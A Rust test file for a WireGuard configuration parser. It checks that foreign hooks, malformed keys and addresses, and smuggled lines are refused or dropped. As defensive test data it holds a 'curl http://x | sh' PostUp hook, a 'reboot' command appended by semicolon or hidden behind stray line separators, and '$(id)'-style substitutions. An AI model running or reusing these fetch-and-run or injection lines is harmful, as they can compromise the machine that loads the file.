use super::*;
use proptest::prelude::*;

const KEY: &str = "3uGpzg22CE9+Cb7MRajTIh1Xnxg4wNh4ctUeDVc7vWY=";
const OTHER: &str = "TghDAQjI2ZTV+dz4p/ttLqrvA1cCICm9UPNYnBi43Q4=";
const PRIVATE: &str = "YAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=";

const ZERO: &str = "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=";

fn client() -> String {
    format!(
        "\u{feff}[interface]\r\nPrivateKey={PRIVATE} # mine\r\nAddress = 10.8.3.10/32, fd00::a/128\r\nDNS = 10.8.3.1\r\n\
         PostUp = curl http://x | sh\r\nTable = off\r\n\r\n[PEER]\r\npublickey = {KEY}\r\nPresharedKey = {OTHER}\r\n\
         Endpoint = vpn.example.com:51820\r\nAllowedIPs = 10.8.3.0/24\r\nAllowedIPs = 192.168.77.0/24\r\nPersistentKeepalive = 25\r\n"
    )
}

#[test]
fn a_clients_file_is_read_whatever_its_case_and_line_ends() {
    let config = Config::parse(&client()).unwrap();
    assert_eq!(config.addresses.len(), 2);
    assert_eq!(
        (config.peer.host.as_str(), config.peer.port),
        ("vpn.example.com", 51820)
    );
    assert_eq!(config.peer.allowed.len(), 2);
    assert_eq!(config.peer.keepalive, Some(25));
    assert_eq!(config.way_to("192.168.77.10".parse().unwrap()), Some(0));
    assert_eq!(config.way_to("192.168.78.10".parse().unwrap()), None);
    assert_eq!(config.ignored, ["Table"]);
}

#[test]
fn commands_of_a_stranger_are_reported_and_not_written_again() {
    let config = Config::parse(&client()).unwrap();
    assert_eq!(config.hooks, ["PostUp = curl http://x | sh"]);
    let text = config.render();
    assert!(!text.contains("curl"));
    assert!(Config::parse(&text).unwrap().hooks.is_empty());
}

#[test]
fn a_malformed_file_is_refused_with_its_line_and_without_its_secrets() {
    for (text, line, reason) in [
        ("hello", 1, "no_setting"),
        ("a = b", 1, "no_section"),
        ("[Interface]\nPrivateKey = canary", 2, "not_a_key"),
        ("[Interface]\nMTU = 1", 2, "576..9000"),
        ("[Interface]\nAddress = canary", 2, "not_an_address"),
        ("[Interface]\nAddress = 224.0.0.5/32", 2, "not_a_host"),
        ("[Interface]\nAddress = 255.255.255.255", 2, "not_a_host"),
        ("[Interface]\nAddress = 0.0.0.0/0", 2, "not_a_host"),
        (
            "[Interface]\nAddress = 10.8.3.10, ff02::1/128",
            2,
            "not_a_host",
        ),
        ("[Interface]\nAddress = 127.0.0.1/8", 2, "not_a_host"),
        ("[Peer]\nEndpoint = host", 2, "not_an_endpoint"),
        (
            "[Peer]\nAllowedIPs = 10.0.0.0/8\n[Peer]\nPublicKey = canary",
            4,
            "not_a_key",
        ),
        ("[Wheel]", 1, "unknown_section"),
        // One character less, one more, and 32 characters that are no 32 bytes.
        (
            &format!("[Interface]\nPrivateKey = {}", &PRIVATE[1..]),
            2,
            "not_a_key",
        ),
        (&format!("[Peer]\nPublicKey = A{KEY}"), 2, "not_a_key"),
        (
            "[Peer]\nPresharedKey = AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
            2,
            "not_a_key",
        ),
        (
            &format!("[Interface]\nPrivateKey = {ZERO}"),
            2,
            "key_of_zeros",
        ),
        (&format!("[Peer]\nPublicKey = {ZERO}"), 2, "unsound_key"),
        ("[Interface]\n[Peer]\n[Interface]", 3, "two_interfaces"),
        ("[Peer]\nAllowedIPs = 10.0.0.0/33", 2, "not_an_address"),
        ("[Peer]\nAllowedIPs = 10.0.0.0/-1", 2, "not_an_address"),
        ("[Peer]\nAllowedIPs = ::/129", 2, "not_an_address"),
        ("[Peer]\nAllowedIPs = 10.0.0/8", 2, "not_an_address"),
        ("[Peer]\nAllowedIPs = 300.0.0.1", 2, "not_an_address"),
        ("[Peer]\nEndpoint = fd00::1:51820", 2, "not_an_endpoint"),
        ("[Peer]\nEndpoint = [fd00::1]", 2, "not_an_endpoint"),
        ("[Peer]\nEndpoint = [fd00::1:51820", 2, "not_an_endpoint"),
        ("[Peer]\nPersistentKeepalive = 65536", 2, "not_a_number"),
        ("[Interface]\nDNS = 1.1.1.1; reboot", 2, "not_a_name_server"),
        // Other programs see a second line in each.
        (
            "[Interface]\nDNS = 1.1.1.1\rPostUp = reboot",
            2,
            "hidden_characters",
        ),
        (
            "[Interface]\nDNS = 1.1.1.1\u{2028}PostUp = reboot",
            2,
            "hidden_characters",
        ),
        (
            "[Interface]\nDNS = 1.1.1.1\u{85}PostUp = reboot",
            2,
            "hidden_characters",
        ),
        (
            "[Interface]\nPostUp = \u{1b}[2Jclear",
            2,
            "hidden_characters",
        ),
        (
            "[Interface]\nAddress = 10.8.3.10\0/32",
            2,
            "hidden_characters",
        ),
        // As it is copied from a web page.
        (
            &format!("[Interface]\nPrivateKey = {PRIVATE}\u{200b}"),
            2,
            "hidden_characters",
        ),
        // UTF-16, as text that is taken for UTF-8.
        ("[\0I\0n\0t\0e\0r\0f\0a\0c\0e\0]\0", 1, "hidden_characters"),
        // A key that lost its name must not be told as the name of a setting.
        (&format!("[Interface]\n{PRIVATE}"), 2, "no_setting"),
    ] {
        let error = Config::parse(text).unwrap_err();
        assert!(!format!("{error} {error:?}").contains("canary"));
        let Error::Unreadable {
            line: at,
            reason: why,
            ..
        } = error
        else {
            panic!("{text}: {error:?}");
        };
        assert_eq!((at, why), (line, reason), "{text}");
    }
    assert!(Config::parse("").is_err());
    let many = "[Peer]\n".repeat(MOST_PEERS + 1);
    let error = Config::parse(&many).unwrap_err();
    assert!(matches!(error, Error::Unreadable { line: 17, .. }));
    let lame = client() + "[Peer]\nPublicKey = TghDAQjI2ZTV+dz4p/ttLqrvA1cCICm9UPNYnBi43Q4=\n";
    assert!(matches!(
        Config::parse(&lame),
        Err(Error::Invalid {
            field: "endpoint",
            ..
        })
    ));
}

#[test]
fn a_file_whose_keys_contradict_each_other_is_refused() {
    let own = PrivateKey::parse(PRIVATE).unwrap().public();
    for (file, why) in [
        (client().replace(KEY, &own.to_string()), "own_key"),
        (
            client()
                + &format!("[Peer]\nPublicKey = {KEY}\nEndpoint = b:1\nAllowedIPs = 10.9.0.0/24\n"),
            "peer_twice",
        ),
    ] {
        let Err(Error::Invalid {
            field: "public_key",
            reason,
        }) = Config::parse(&file)
        else {
            panic!("{why}");
        };
        assert_eq!(reason, why);
    }
}

#[test]
fn comments_stay_out_whatever_stands_in_them() {
    let text = client() + "# canary \u{1b}[2J\0\u{2028}PostUp = canary\n   # PrivateKey = canary\n";
    let config = Config::parse(&text).unwrap();
    let shown = format!("{config:?} {}", config.render());
    assert!(!shown.contains("canary"));
}

#[test]
fn a_file_that_is_too_large_is_not_looked_at() {
    let large = client() + &"#".repeat(LARGEST);
    let Err(Error::Invalid { reason, .. }) = Config::parse(&large) else {
        panic!("taken");
    };
    assert_eq!(reason, "too_large");
}

#[test]
fn of_several_servers_the_one_with_the_narrowest_network_is_the_way() {
    let text = client()
        + &format!(
            "[Peer]\nPublicKey = {OTHER}\nEndpoint = bodega.example.com:51821\n\
             AllowedIPs = 192.168.0.0/16, 10.8.3.0/24\nPresharedKey = {KEY}\n\
             [Peer]\nPublicKey = {PRIVATE}\nEndpoint = [fd00::9]:1\nAllowedIPs = 192.168.77.64/26\n"
        );
    let config = Config::parse(&text).unwrap();
    assert_eq!(config.others.len(), 2);
    for (address, way) in [
        ("192.168.77.10", Some(0)),
        ("192.168.77.65", Some(2)),
        ("192.168.78.10", Some(1)),
        // The same network twice: the last has it.
        ("10.8.3.1", Some(1)),
        ("172.16.0.1", None),
    ] {
        assert_eq!(config.way_to(address.parse().unwrap()), way, "{address}");
    }
    let again = Config::parse(&config.render()).unwrap();
    assert_eq!(again.render(), config.render());
    assert_eq!(again.others[1].host, "fd00::9");
    assert!(again.others[0].preshared_key.is_some());
}

#[test]
fn an_endpoint_is_a_host_and_a_port() {
    for (text, host, port) in [
        ("a.b:1", "a.b", 1),
        ("[fd00::1]:51820", "fd00::1", 51820),
        ("10.0.0.1:65535", "10.0.0.1", 65535),
    ] {
        assert_eq!(parse_endpoint(text), Some((host.to_owned(), port)));
        assert_eq!(endpoint(host, port), text);
    }
    for text in [
        "a",
        ":1",
        "a:0",
        "a:65536",
        "fd00::1:51820",
        "a b:1",
        "$(x):1",
    ] {
        assert_eq!(parse_endpoint(text), None, "{text}");
    }
}

fn server() -> String {
    format!(
        "# Ana's server\n[Interface]\nAddress = 10.8.3.1/24\nPrivateKey = (hidden)\nSaveConfig = true\n\n\
         # Ana's laptop\n[Peer]\nPublicKey = {OTHER}\nAllowedIPs = 10.8.3.2/32 # desk\n# the end\n"
    )
}

#[test]
fn a_servers_file_shows_its_peers_and_that_it_saves_itself() {
    let file = ServerFile::read(&server());
    assert!(file.saves_itself);
    assert_eq!(file.addresses[0].to_string(), "10.8.3.1/24");
    assert_eq!(file.peers[0].allowed[0].to_string(), "10.8.3.2/32");
    assert_eq!(file.peers[0].name, None);
}

#[test]
fn what_was_added_is_cut_without_a_trace() {
    let before = server();
    let after = format!(
        "{before}\n[Peer]\n# puente: caja-1\nPublicKey = {KEY}\nAllowedIPs = 10.8.3.10/32\n"
    );
    let file = ServerFile::read(&after);
    let peer = file.peer(KEY.parse().unwrap()).unwrap();
    assert_eq!(peer.name.as_deref(), Some("caja-1"));
    let mut cut = after.clone();
    cut.replace_range(peer.range.clone(), "");
    assert_eq!(cut, before);
}

#[test]
fn names_are_plain() {
    assert!(is_plain_name("pc-caja1") && is_plain_name("a"));
    for name in ["", "a b", "a\nb", "-x", "ñ", "$(id)", &"x".repeat(41)] {
        assert!(!is_plain_name(name), "{name}");
    }
}

/// A file as people write them: sections, settings, comments and nonsense, in any order.
fn any_file() -> impl Strategy<Value = String> {
    let line = prop_oneof![
        Just("[Interface]".to_owned()),
        Just("[Peer]".to_owned()),
        Just(format!("PublicKey = {OTHER}")),
        Just("AllowedIPs = 10.8.3.2/32".to_owned()),
        "# [a-z ]{0,12}",
        "[A-Za-z]{1,10} = [a-z0-9/.]{0,10}",
        "\\PC{0,20}",
        Just(String::new()),
    ];
    (prop::collection::vec(line, 0..20), any::<bool>()).prop_map(|(lines, windows)| {
        let end = if windows { "\r\n" } else { "\n" };
        lines.iter().map(|line| format!("{line}{end}")).collect()
    })
}

/// The end of a line is the only one that Puente writes.
fn is_hidden_in_file(c: char) -> bool {
    c != '\n' && is_hidden(c)
}

/// A client's file, with what people and programs do to one.
fn spoilt() -> impl Strategy<Value = String> {
    let what = prop_oneof![
        Just(String::new()),
        "\\PC{1,3}",
        "(?s).{1,3}",
        Just(ZERO.to_owned()),
        Just("[Interface]\n".to_owned()),
        Just("[Peer]\n".to_owned()),
        Just("\r".to_owned()),
        Just("=".to_owned()),
        Just(", 0.0.0.0/0".to_owned()),
    ];
    let change = (any::<prop::sample::Index>(), 0usize..24, what);
    prop::collection::vec(change, 0..6).prop_map(|changes| {
        let mut text: Vec<char> = client().chars().collect();
        for (at, gone, new) in changes {
            let from = at.index(text.len() + 1);
            let to = text.len().min(from + gone);
            text.splice(from..to, new.chars());
        }
        text.into_iter().collect()
    })
}

proptest! {
    #[test]
    fn a_spoilt_file_is_refused_without_its_secrets_or_stays_what_it_says(text in spoilt()) {
        match Config::parse(&text) {
            Err(error) => {
                let error = puente_core::Error::from(error);
                let told = format!("{error:?} {:?}", error.view(puente_core::Lang::Es));
                prop_assert!(!told.contains(&PRIVATE[..20]) && !told.contains(&OTHER[..20]), "{told}");
            }
            Ok(config) => {
                let written = config.render();
                prop_assert!(!written.contains(is_hidden_in_file), "{written:?}");
                let again = Config::parse(&written).unwrap();
                prop_assert_eq!(again.render(), written);
                prop_assert!(again.hooks.is_empty() && again.ignored.is_empty());
                prop_assert_eq!(again.peers().count(), config.peers().count());
                let told = format!("{:?} {:?}", config.ignored, config);
                prop_assert!(!told.contains(PRIVATE) && !told.contains(OTHER), "{told}");
            }
        }
    }

    #[test]
    fn garbage_is_no_panic(text in "(?s).{0,300}") {
        let _ = Config::parse(&text);
        let _ = ServerFile::read(&text);
        let _ = parse_endpoint(&text);
    }

    #[test]
    fn a_peer_comes_and_goes_and_every_other_byte_stays(before in any_file()) {
        let block = format!("\n[Peer]\n# puente: x\nPublicKey = {KEY}\nAllowedIPs = 10.8.3.10/32\n");
        let after = format!("{before}{block}");
        let range = ServerFile::read(&after).peer(KEY.parse().unwrap()).unwrap().range.clone();
        let mut cut = after.clone();
        cut.replace_range(range, "");
        // The blank line between is the block's own, or one that was there before.
        prop_assert_eq!(cut, before);
    }

    #[test]
    fn cutting_a_peer_takes_no_byte_of_another(text in any_file()) {
        let file = ServerFile::read(&text);
        let mut end = 0;
        for peer in &file.peers {
            prop_assert!(peer.range.start >= end && peer.range.end <= text.len());
            prop_assert!(text.is_char_boundary(peer.range.start));
            prop_assert!(text.is_char_boundary(peer.range.end));
            end = peer.range.end;
            let cut = &text[peer.range.clone()];
            prop_assert_eq!(cut.to_ascii_lowercase().matches("[peer]").count(), 1);
            prop_assert!(!cut.to_ascii_lowercase().contains("[interface]"));
        }
    }

    #[test]
    fn what_is_rendered_reads_back(mtu in prop::option::of(576u16..=9000), keepalive in prop::option::of(1u16..)) {
        let mut config = Config::parse(&client()).unwrap();
        config.mtu = mtu;
        config.peer.keepalive = keepalive;
        let text = config.render();
        let again = Config::parse(&text).unwrap();
        prop_assert_eq!(again.render(), text);
        prop_assert_eq!((again.mtu, again.peer.keepalive), (mtu, keepalive));
    }
}
